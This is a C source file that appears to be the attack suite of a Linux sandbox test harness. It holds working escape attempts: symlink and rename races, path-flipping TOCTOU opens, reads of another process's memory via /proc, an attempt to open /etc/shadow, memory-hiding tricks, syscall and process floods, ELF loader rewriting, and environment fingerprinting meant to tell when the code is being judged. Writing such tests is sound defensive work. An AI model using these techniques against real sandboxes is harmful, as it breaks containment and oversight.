/* Ways not to be seen: paths that change, threads without a leader, memory that only the kernel reads, floods. */
#include "attack.h"
#include <elf.h>
#include <pthread.h>
#include <time.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/un.h>

static void copy_self(const char *to) {
    char buffer[1 << 16];
    int in = open("/proc/self/exe", O_RDONLY), out = open(to, O_WRONLY | O_CREAT | O_TRUNC, 0755);
    for (ssize_t n; (n = read(in, buffer, sizeof buffer)) > 0;) write(out, buffer, n);
    close(in), close(out);
}
static void start(const char *path) {
    pid_t child = vfork();
    if (child == 0) {
        execl(path, "x", "again", (char *)0);
        _exit(1);
    }
    waitpid(child, 0, 0);
}
/* Two names are exchanged all the time while the first of them is executed; at the end each runs once. */
static int race(const char *one, const char *other, const char *run, const char *last) {
    int null = open("/dev/null", O_WRONLY), out = dup(1);
    dup2(null, 1);
    pid_t racer = fork();
    if (racer == 0)
        for (;;) syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, other, 2 /* RENAME_EXCHANGE */);
    for (int i = 0; i < 300; i++) start(run);
    kill(racer, SIGKILL);
    waitpid(racer, 0, 0);
    start(run), start(last);
    dup2(out, 1);
    return 1;
}
ATTACK(race_to_device) {
    copy_self("x");
    symlink("/dev/zero", "l");
    int done = race("x", "l", "./x", "./l");
    unlink("x"), unlink("l");
    return done;
}
ATTACK(race_to_host_file) {
    char top[300];
    strcpy(top, param);
    char *name = strrchr(top, '/');
    *name++ = 0;
    char run[300], mine[300];
    sprintf(run, "./d/%s", name);
    mkdir("d", 0755);
    sprintf(mine, "d/%s", name);
    copy_self(mine);
    symlink(top, "l");
    char last[300];
    sprintf(last, "./l/%s", name);
    int done = race("d", "l", run, last);
    unlink("l"), unlink("d"), unlink(mine);
    rmdir("d"), rmdir("l");
    char other[300];
    sprintf(other, "l/%s", name);
    unlink(other), rmdir("l");
    return done;
}
static void *linger(void *unused) {
    sleep(12);
    return unused;
}
ATTACK(daemon_without_leader) {
    if (fork() == 0) {
        setsid();
        close(0), close(1), close(2);
        pthread_t t;
        pthread_create(&t, 0, linger, 0);
        syscall(SYS_exit, 0);
    }
    usleep(200000);
    return 1;
}
static void *take(void *unused) {
    size_t size = 400u << 20;
    char *all = mmap(0, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    usleep(200000);
    memset(all, 1, size);
    sleep(3);
    printf("ESCAPED memory\n");
    fflush(stdout);
    _exit(0);
}
ATTACK(memory_without_leader) {
    pthread_t t;
    pthread_create(&t, 0, take, 0);
    syscall(SYS_exit, 0);
    return 0;
}
static int fill(int fd) {
    static char block[1 << 20];
    memset(block, 1, sizeof block);
    for (int i = 0; i < 20; i++) if (write(fd, block, sizeof block) < 0) return 0;
    return 1;
}
ATTACK(memory_in_flight) {
    int pair[2];
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair)) return 0;
    for (int i = 0; i < 20; i++) {
        int fd = memfd_create("m", 0);
        char space[CMSG_SPACE(sizeof fd)] = {0}, byte = 0;
        struct iovec part = {&byte, 1};
        struct msghdr m = {.msg_iov = &part, .msg_iovlen = 1, .msg_control = space, .msg_controllen = sizeof space};
        struct cmsghdr *c = CMSG_FIRSTHDR(&m);
        c->cmsg_level = SOL_SOCKET, c->cmsg_type = SCM_RIGHTS, c->cmsg_len = CMSG_LEN(sizeof fd);
        memcpy(CMSG_DATA(c), &fd, sizeof fd);
        if (sendmsg(pair[0], &m, 0) < 0) return 0;
        if (!fill(fd)) return 0;
        close(fd);
    }
    return 1;
}
static int hide(void *unused) {
    (void)unused;
    for (;;) pause();
}
ATTACK(memory_in_a_thread) {
    static char stack[1 << 16];
    int flags = CLONE_VM | CLONE_FS | CLONE_SIGHAND | CLONE_THREAD | CLONE_SYSVSEM;
    return clone(hide, stack + sizeof stack, flags, 0) != -1;
}
ATTACK(memory_in_an_own_table) { return syscall(436, 100, ~0U, 2 /* CLOSE_RANGE_UNSHARE */) == 0; }
static int owner(unsigned long request) {
    int pair[2], pid = getpid();
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair)) return 0;
    return ioctl(pair[0], request, &pid) == 0;
}
ATTACK(owner_by_fiosetown) { return owner(0x8901); }
ATTACK(owner_by_siocspgrp) { return owner(0x8902); }
ATTACK(owner_by_high_bits) {
    int pair[2], pid = getpid();
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair)) return 0;
    return syscall(SYS_ioctl, pair[0], 0x8901 | 7L << 32, &pid) == 0;
}
#ifdef __x86_64__
ATTACK(owner_by_i386) {
    int pair[2];
    long result;
    static int pid;
    int *low = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    if (low == MAP_FAILED || socketpair(AF_UNIX, SOCK_STREAM, 0, pair)) return 0;
    *low = pid = getpid();
    __asm__ volatile("int $0x80" : "=a"(result) : "a"(54), "b"(pair[0]), "c"(0x8901), "d"(low) : "memory");
    errno = -result;
    return result == 0;
}
#endif
ATTACK(socket_cookie) {
    unsigned long cookie;
    socklen_t size = sizeof cookie;
    int pair[2];
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair)) return 0;
    return getsockopt(pair[0], SOL_SOCKET, 57, &cookie, &size) == 0;
}
ATTACK(write_only_page) {
    char *page = mmap(0, 4096, PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    strcpy(page, "/etc/shadow");
    return open(page, O_RDONLY) != -1;
}
ATTACK(memfd_secret) { return syscall(447, 0) != -1; }
ATTACK(open_flood_host) {
    char name[200];
    for (int i = 0; i < 5500; i++) {
        char *at = name + sprintf(name, "/usr");
        for (int bit = 0; bit < 13; bit++) at += sprintf(at, i >> bit & 1 ? "/bin/.." : "/lib/..");
        close(open(name, O_RDONLY | O_PATH));
    }
    return 0;
}
ATTACK(denial_flood) {
    for (long i = 0; i < 3000; i++) syscall(SYS_ioctl, 0, i << 32 | 0x40086602, 0);
    for (int i = 0; i < 3000; i++) socket(AF_INET, SOCK_DGRAM, i);
    for (int i = 0; i < 64; i++) for (int j = 0; j < 16; j++) socket(i == 1 ? 2 : i, j, 0);
    return syscall(SYS_mount, "none", ".", "tmpfs", 0, 0) != -1;
}
/* The name of an allowed library, which another thread makes that of another one between the look of whoever watches and the
   kernel's: later and later looks are tried until the kernel opens the other. Where no try comes in time, that is opened as it is. */
static char flipped[200];
static char *volatile flipped_end;
static volatile long flip_after = -1;
static long now_ns(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec * 1000000000L + t.tv_nsec;
}
static void *flip(void *unused) {
    for (;;) {
        while (flip_after < 0);
        long until = now_ns() + flip_after;
        while (now_ns() < until);
        memcpy(flipped_end, "gmp.so.10", 10);
        flip_after = -1;
    }
    return unused;
}
ATTACK(open_flipped_library) {
    static const char *const places[] = {"/usr/lib/x86_64-linux-gnu", "/usr/lib/aarch64-linux-gnu", "/usr/lib64"};
    struct stat wanted, got;
    int place = 0, won = 0;
    for (; place < 3; place++) {
        sprintf(flipped, "%s/libgmp.so.10", places[place]);
        if (stat(flipped, &wanted) == 0) break;
    }
    if (place == 3) return 0;
    flipped_end = strrchr(flipped, '/') + 4;
    pthread_t t;
    pthread_create(&t, 0, flip, 0);
    for (long after = 300000; after >= 0 && !won; after -= 250) {
        strcpy(flipped_end, "m.so.6");
        flip_after = after;
        int fd = open(flipped, O_RDONLY);
        while (flip_after >= 0);
        won = fd >= 0 && fstat(fd, &got) == 0 && got.st_ino == wanted.st_ino && got.st_dev == wanted.st_dev;
        if (fd >= 0) close(fd);
    }
    if (!won) close(open(flipped, O_RDONLY));
    fprintf(stderr, "the other library was opened %s\n", won ? "in the place of the first" : "by its name");
    return 1;
}
/* A library by a path of so many links that opening it takes milliseconds, and the number that its descriptor will have. */
#define LINKS 16
static int lay_long_path(const char *target) {
    char name[16], to[4096];
    if (mkdir("d", 0755)) return -1;
    for (int link = 0; link < LINKS; link++) {
        size_t end = 0;
        while (end < 4080) end += sprintf(to + end, "d/../");
        sprintf(to + end, "l%d", link + 1);
        sprintf(name, "l%d", link);
        symlink(to, name);
    }
    sprintf(name, "l%d", LINKS);
    symlink(target, name);
    int next = open("/dev/null", O_RDONLY);
    close(next);
    return next;
}
static void clear_long_path(void) {
    char name[16];
    for (int link = 0; link <= LINKS; link++) sprintf(name, "l%d", link), unlink(name);
    rmdir("d");
}
/* A process that shares our descriptors is killed in the middle of its open, by itself; 1 if the descriptor is there then. Each has more
   time than the last, since an open takes longer on a busy machine, until one has come to its end. */
static int killed_in_open(int next) {
    int status;
    long after = 1000000;
    do {
        pid_t child = syscall(SYS_clone, CLONE_FILES | SIGCHLD, 0, 0, 0, 0);
        if (child == 0) {
            struct sigevent kill = {.sigev_notify = SIGEV_SIGNAL, .sigev_signo = SIGKILL};
            struct itimerspec in = {.it_value = {after / 1000000000, after % 1000000000}};
            timer_t timer;
            timer_create(CLOCK_MONOTONIC, &kill, &timer);
            timer_settime(timer, 0, &in, 0);
            open("l0", O_RDONLY);
            _exit(0);
        }
        waitpid(child, &status, 0);
        after += after / 2;
    } while (fcntl(next, F_GETFD) == -1 && !WIFEXITED(status) && after < 8000000000);
    return fcntl(next, F_GETFD) != -1;
}
static const char *library(void) {
    static char path[64];
    static const char *const places[] = {"/usr/lib/x86_64-linux-gnu", "/usr/lib/aarch64-linux-gnu", "/usr/lib64"};
    for (int place = 0; place < 3; place++) {
        sprintf(path, "%s/libgmp.so.10", places[place]);
        if (access(path, R_OK) == 0) break;
    }
    return path;
}
ATTACK(open_killed_before_its_end) {
    int came = killed_in_open(lay_long_path(library()));
    clear_long_path();
    return came;
}
ATTACK(packets_by_killed_open) {
    char text[32];
    int next = lay_long_path("/proc/self/net/softnet_stat");
    int came = killed_in_open(next) && read(next, text, sizeof text) > 0;
    clear_long_path();
    return came;
}
/* The first thread is in the middle of an open when another one starts a program, in which the descriptor is open. */
static void *start_soon(void *after) {
    char *words[] = {(char *)"x", (char *)"again", 0};
    usleep((long)after);
    execv(self, words);
    return 0;
}
ATTACK(open_cut_off_by_a_start) {
    int status;
    long after = 500;
    lay_long_path(library());
    do {
        pid_t child = fork();
        if (child == 0) {
            pthread_t t;
            dup2(open("/dev/null", O_WRONLY), 1);
            pthread_create(&t, 0, start_soon, (void *)after);
            open("l0", O_RDONLY);
            _exit(1);
        }
        waitpid(child, &status, 0);
        after += after / 2;
    } while (status == 0 && after < 8000000);
    clear_long_path();
    return 1;
}
/* Memory of another process: a compiler's holds its libraries. */
static const char in_memory[] = "in the memory of both";
static int memory_of(const char *path) {
    char text[sizeof in_memory] = "";
    int fd = open(path, O_RDONLY);
    return fd != -1 && pread(fd, text, sizeof text, (long)in_memory) == sizeof text && !strcmp(text, in_memory);
}
static int memory_of_a_child(int by_link, const char *form) {
    char path[64];
    pid_t other = fork();
    if (other == 0)
        for (;;) pause();
    sprintf(path, form, (int)other, (int)other);
    if (by_link) symlink(path, "link"), strcpy(path, "link");
    int came = memory_of(path);
    kill(other, SIGKILL);
    waitpid(other, 0, 0);
    if (by_link) unlink("link");
    return came;
}
ATTACK(memory_of_another) { return memory_of_a_child(0, "/proc/%d/mem"); }
ATTACK(memory_of_another_by_its_thread) { return memory_of_a_child(0, "/proc/%d/task/%d/mem"); }
ATTACK(memory_of_another_by_link) { return memory_of_a_child(1, "/proc/%d/mem"); }
/* Processes that keep the tracer busy, so that it looks late at others. */
static volatile int *rests;
static pid_t busy[20];
static void keep_tracer_busy(void) {
    rests = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    for (int i = 0; i < 20; i++)
        if ((busy[i] = fork()) == 0) {
            while (!*rests) open("./nothing", O_RDONLY);
            _exit(0);
        }
    usleep(3000);
}
static void let_tracer_rest(void) {
    *rests = 1;
    for (int i = 0; i < 20; i++) waitpid(busy[i], 0, 0);
}
/* The memory of another process by a link, whose descriptor another thread copies and replaces before anybody looks at it. */
static volatile int number, copy, over;
static void *replaces(void *null) {
    int got;
    while ((got = dup(number)) == -1)
        if (over) return 0;
    dup2((int)(long)null, number);
    copy = got;
    return 0;
}
ATTACK(memory_of_another_exchanged) {
    char path[64], text[sizeof in_memory] = "";
    pthread_t t;
    pid_t other = fork();
    if (other == 0)
        for (;;) pause();
    sprintf(path, "/proc/%d/mem", (int)other);
    symlink(path, "link");
    keep_tracer_busy();
    long null = open("/dev/null", O_RDONLY);
    copy = -1, number = dup(null), close(number);
    pthread_create(&t, 0, replaces, (void *)null);
    usleep(3000);
    over = open("link", O_RDONLY) == -1;
    pthread_join(t, 0);
    let_tracer_rest();
    ssize_t came = pread(copy, text, sizeof text, (long)in_memory);
    kill(other, SIGKILL);
    waitpid(other, 0, 0);
    unlink("link");
    return came == sizeof text && !strcmp(text, in_memory);
}
/* A link to a program that is refused. A file of the entry's own takes its name as soon as the kernel has answered: when the thread has
   stopped for the second time. */
static volatile int watched;
static long stops(int status) {
    char text[4096] = "";
    pread(status, text, sizeof text - 1, 0);
    char *count = strstr(text, "\nvoluntary_ctxt_switches:");
    return count ? atol(count + 25) : -1;
}
static void *takes_its_name(void *unused) {
    char path[64];
    sprintf(path, "/proc/self/task/%d/status", (int)getpid());
    int status = open(path, O_RDONLY);
    long before = stops(status);
    watched = 1;
    while (watched == 1 && stops(status) < before + 2);
    rename("own", "link");
    return unused;
}
static int asks_for_link(int (*call)(void)) {
    int status;
    symlink(FORBIDDEN, "link");
    close(open("own", O_WRONLY | O_CREAT, 0644));
    keep_tracer_busy();
    pid_t child = fork();
    if (child == 0) {
        pthread_t t;
        pthread_create(&t, 0, takes_its_name, 0);
        while (!watched);
        int came = call();
        watched = 2;
        pthread_join(t, 0);
        _exit(came);
    }
    waitpid(child, &status, 0);
    let_tracer_rest();
    unlink("link"), unlink("own");
    return WIFEXITED(status) && WEXITSTATUS(status) == 1;
}
static int starts_link(void) { return forbidden("./link"); }
static int asks_to_start(void) { return asks_for_link(starts_link); }
ATTACK(start_by_exchanged_link) { return output_of(asks_to_start, FORBIDDEN_WORD); }
static int opens_link(void) { return open("link", O_RDONLY) != -1; }
ATTACK(open_by_exchanged_link) { return asks_for_link(opens_link); }
/* A library, looked for below a directory where it is not, and then opened. */
ATTACK(open_looked_for_elsewhere) {
    static const char *const places[] = {"/usr/lib/x86_64-linux-gnu", "/usr/lib/aarch64-linux-gnu", "/usr/lib64"};
    long in_root[3] = {O_RDONLY, 0, 0x10};
    for (int i = 0; i < 3; i++) {
        char name[200];
        sprintf(name, "%s/libgmp.so.10", places[i]);
        syscall(437, open(".", O_RDONLY | O_DIRECTORY), name, in_root, 24);
        if (open(name, O_RDONLY) != -1) return 1;
    }
    return 0;
}
ATTACK(product_flood) {
    char name[16];
    for (int i = 0; i < 210; i++) {
        sprintf(name, "x%d", i);
        copy_self(name);
        start(name);
        unlink(name);
    }
    return 1;
}
static int again(void) { return execl("/proc/self/exe", "x", "again", (char *)0); }
ATTACK(own_program_again) { return output_of(again, "AGAIN"); }
ATTACK(own_loader) {
    /* A copy of this program that names an allowed program in the place of its loader. */
    copy_self("i");
    int fd = open("i", O_RDWR);
    Elf64_Ehdr *elf = mmap(0, lseek(fd, 0, SEEK_END), PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
    Elf64_Phdr *part = (Elf64_Phdr *)((char *)elf + elf->e_phoff);
    for (int i = 0; i < elf->e_phnum; i++)
        if (part[i].p_type == PT_INTERP) {
            memset((char *)elf + part[i].p_offset, 0, part[i].p_filesz);
            strcpy((char *)elf + part[i].p_offset, "/usr/bin/xz");
        }
    munmap(elf, 1);
    close(fd);
    start("./i");
    unlink("i");
    return 1;
}
static FILE *told;
static void show(const char *name) {
    char line[4096];
    FILE *file = fopen(name, "r");
    fprintf(told, "== %s\n", name);
    while (file && fgets(line, sizeof line, file)) {
        /* What is counted, not what is set up. */
        if (strstr(name, "status") && (!strncmp(line, "Vm", 2) || !strncmp(line, "Rss", 3) || strstr(line, "ctxt"))) continue;
        /* The entry's own name, which is another in each start: its file is mounted on itself. */
        char *own = strstr(line, " /entry/");
        if (own) memset(own + 8, '-', strcspn(own + 8, " "));
        fputs(line, told);
    }
    if (file) fclose(file);
}
/* All that a start can be told by; it is the same for every start, or an entry knows when it is judged. */
static void tell(void) {
    extern char **environ;
    char name[64], target[256];
    for (char **e = environ; *e; e++) fprintf(told, "%s\n", *e);
    for (int fd = 0; fd < 64; fd++) {
        sprintf(name, "/proc/self/fd/%d", fd);
        ssize_t n = readlink(name, target, 4);
        if (n > 0) fprintf(told, "fd %d %.*s\n", fd, (int)n, target);
    }
    static const char *const names[] = {"uid_map", "gid_map", "setgroups", "limits", "mounts", "status", "cgroup",
                                        "oom_score_adj", "timerslack_ns", "autogroup", "personality"};
    for (int i = 0; i < sizeof names / sizeof *names; i++) {
        sprintf(name, "/proc/self/%s", names[i]);
        show(name);
    }
    /* The namespace's first processes are copies of gate4k: by their size one would know what gate4k is doing. */
    if (getppid() == 2) show("/proc/1/statm"), show("/proc/1/cmdline"), show("/proc/2/statm"), show("/proc/2/cmdline");
    show("/proc/net/dev");
    show("/proc/net/unix");
    show("/proc/sysvipc/shm");
    static const char *const spaces[] = {"net", "user", "mnt", "pid", "ipc", "uts", "cgroup", "time"};
    for (int i = 0; i < 8; i++) {
        sprintf(name, "/proc/self/ns/%s", spaces[i]);
        int fd = open(name, O_RDONLY);
        for (int request = 0xb701; request <= 0xb704; request++) {
            errno = 0;
            int result = ioctl(fd, request, 0);
            fprintf(told, "%s %x %s (%s)\n", spaces[i], request, result < 0 ? "no" : "yes", strerror(errno));
        }
        close(fd);
    }
    fprintf(told, "pid %d parent %d session %d umask %o\n", getpid(), getppid(), getsid(0), umask(0));
    unsigned long attr[7] = {0};
    fprintf(told, "slice %ld", syscall(SYS_sched_getattr, 0, attr, 56, 0));
    for (int i = 0; i < 7; i++) fprintf(told, " %lx", attr[i]);
    for (int fd = 0; fd < 3; fd++) {
        struct stat s;
        fstat(fd, &s);
        fprintf(told, "stream %d %o %d %x %d\n", fd, s.st_mode, s.st_uid, fcntl(fd, F_GETFL), fcntl(fd, F_GETPIPE_SZ));
    }
    fprintf(told, "\n");
}
ATTACK(appearance) {
    told = stdout;
    tell();
    return 1;
}
/* A sum over all of it but for what differs by nature (`plain` in appearance.rs). */
static unsigned long sum(void) {
    char *text, *next;
    size_t size;
    unsigned long sum = 14695981039346656037ul;
    told = open_memstream(&text, &size);
    tell();
    fclose(told);
    while ((next = strsep(&text, "\n")))
        if (strncmp(next, "Name:", 5) && strncmp(next, "/autogroup-", 11))
            for (; *next; next++) sum = (sum ^ (unsigned char)*next) * 1099511628211ul;
    return sum;
}
ATTACK(appearance_sum) {
    printf("sum %lx\n", sum());
    return 1;
}
/* Gives up wherever it looks otherwise than it was told. */
ATTACK(appearance_known) {
    if (strtoul(param, 0, 16) != sum()) _exit(3);
    return 1;
}
/* A script whose first line names this program. */
static int reads_script(void) { return execl("./s", "s", (char *)0); }
ATTACK(own_reader) {
    char line[4200] = "#!";
    copy_self("i");
    getcwd(line + 2, 4096);
    strcat(line, "/i\n");
    int fd = open("s", O_WRONLY | O_CREAT, 0755);
    write(fd, line, strlen(line));
    close(fd);
    int came = output_of(reads_script, "AGAIN");
    unlink("i"), unlink("s");
    return came;
}
